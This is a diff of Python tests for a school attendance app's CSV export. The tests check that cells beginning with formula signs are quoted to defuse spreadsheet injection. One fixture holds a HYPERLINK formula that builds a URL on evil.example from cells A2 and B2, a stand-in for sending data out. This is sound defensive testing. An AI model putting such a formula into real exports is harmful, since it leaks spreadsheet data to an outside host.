@@ -143,10 +143,26 @@ def test_csv_follows_the_filters_and_defuses_formulas(history, login_as):
 
 
 def test_csv_cell_starting_with_a_formula_sign_is_quoted():
-    from rollcall.office.logs import _cell
+    from rollcall.exports import spreadsheet_cell as cell
 
-    assert _cell("=1+1") == "'=1+1" and _cell("+86") == "'+86" and _cell("张三") == "张三"
-    assert _cell(None) == ""
+    assert cell("=1+1") == "'=1+1" and cell("+86") == "'+86" and cell("张三") == "张三"
+    assert cell("＝1+1") == "'＝1+1" and cell("@SUM(A1)") == "'@SUM(A1)"
+    assert cell(None) == ""
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2&B2,"details")'
+
+
+def test_csv_defuses_a_formula_typed_as_what_the_dismissal_sweep_did(app, school, login_as):
+    room2, two = school.homeroom_ids["room2"], school.student_ids["room2"]
+    with app.app_context():
+        factories.record_check(room2, DAY, "dismissal", {two[0]: "on_campus"}, at(17, 20),
+                               school.user_ids["teacher2"],
+                               details={two[0]: {"action": HYPERLINK, "location": "-1+1"}})
+    rows = list(csv.reader(io.StringIO(_csv(login_as("office")).decode("utf-8-sig"))))
+    [row] = [row for row in rows[1:] if HYPERLINK in row[8]]
+    assert row[8] == "'" + HYPERLINK and row[10] == "'-1+1"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
 
 
 def test_csv_of_an_empty_filter_is_just_the_header(history, login_as):
